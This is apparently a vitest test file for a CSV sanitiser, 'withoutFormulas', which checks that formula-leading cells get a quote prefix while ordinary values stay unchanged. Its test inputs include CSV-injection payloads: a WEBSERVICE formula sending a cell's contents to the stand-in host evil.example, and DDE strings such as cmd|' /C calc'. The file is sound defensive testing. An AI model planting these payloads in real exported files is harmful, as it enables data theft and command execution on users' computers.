import { expect, test } from 'vitest'
import { withoutFormulas } from './csv-text.ts'

test.each([
  ['a,=WEBSERVICE("https://evil.example/?"&B3)', `a,'=WEBSERVICE("https://evil.example/?"&B3)`],
  ['a,b\r\n"=1+A1",x', `a,b\r\n"'=1+A1",x`],
  ['=HYPERLINK(1)\n@SUM(1)\n+cmd|x\n-cmd|x', `'=HYPERLINK(1)\n'@SUM(1)\n'+cmd|x\n'-cmd|x`],
  ['a; =1+A1', `a;' =1+A1`],
  ['x;"b,=A1', `x;"b,'=A1`],
  ['a,b;-1+SUM(A1),c', `a,b;'-1+SUM(A1),c`],
  ["a,b;+1+cmd|' /C calc'!A0,c", `a,b;'+1+cmd|' /C calc'!A0,c`],
  ['a\t=A1', `a\t'=A1`],
  ['＝A1', `'＝A1`],
  ['"a"",=A1",b', `"a"",=A1",b`],
  ['- point,2', `'- point,2`],
  ['-1e3+A1,2', `'-1e3+A1,2`],
])('%j: a spreadsheet calculates nothing of it', (text, expected) => {
  expect(withoutFormulas(text).text).toBe(expected)
})

test.each([
  'name,value\nA,-5\nB,+49 30 1234\nC,-1.5%\nD,"-1,234.50"\nE,-\n',
  'text\n"one\n- two\n= three"\n',
  'a=b,c@d.example,x-y',
  '-1,Munich (Bavaria)\n-2,Bonn; -y\n',
  'Words, and; more - of = them\n',
  'x,y\n-1.5e3,+.5E-10\n',
  '',
])('%j stays as it is', (text) => expect(withoutFormulas(text)).toEqual({ text, cells: 0 }))
